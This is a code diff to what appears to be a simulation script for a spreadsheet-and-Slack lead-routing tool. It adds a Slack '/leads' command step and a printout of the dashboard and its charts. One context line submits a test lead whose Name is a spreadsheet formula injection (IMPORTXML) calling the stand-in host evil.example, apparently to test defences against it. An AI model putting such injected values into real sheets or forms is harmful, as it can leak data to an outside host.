@@ -222,6 +222,9 @@ submit('10:50', 'formula', { Name: '=IMPORTXML("http://evil.example/x","//a")', 
 click('10:55', CITRA, 'dewi');
 submit('11:00', 'agus', { Name: 'Agus', Phone: 'call me', Email: 'agus@example.com' });
 click('11:02', AYU, 'formula');
+until('11:10');
+rt.run('doPost', rt.slack.slashCommandEvent({ userId: BIMA, command: '/leads' }));
+out(`11:10  ${'slack'.padEnd(6)} Bima types /leads`);
 note('13:00', 'Citra leaves for the day: sales_sheet active → FALSE for Citra');
 world.setReps(REPS.map((r) => (r.slackId === CITRA ? { ...r, active: false } : r)));
 submit('13:10', 'putri', { Name: 'Putri Ayu', Phone: '0821.7788.9900', Email: '' });
@@ -274,6 +277,12 @@ for (const line of formatTable(grid('sales_sheet'))) out(line);
 
 heading('routing_state_sheet');
 for (const line of formatTable(grid('routing_state_sheet'), ['key', { key: 'value', format: time }])) out(line);
+
+heading('dashboard (refreshed by every sweep; two charts sit beside it)');
+const board = rt.book.sheet('dashboard').displayRows();
+for (const row of board.slice(0, 9)) if (row.some((c) => c !== '')) out(`  ${row.filter((c) => c !== '').join('  ')}`);
+for (const line of formatTable(rowsFromGrid(board.slice(10, 10 + 1 + REPS.length).map((r) => r.slice(0, 9))))) out(line);
+for (const chart of rt.book.sheet('dashboard').charts()) out(`  chart: ${chart.title} (${chart.type}) over ${chart.ranges.join(', ')}`);
 
 // ---------------------------------------------------------------- Slack
 
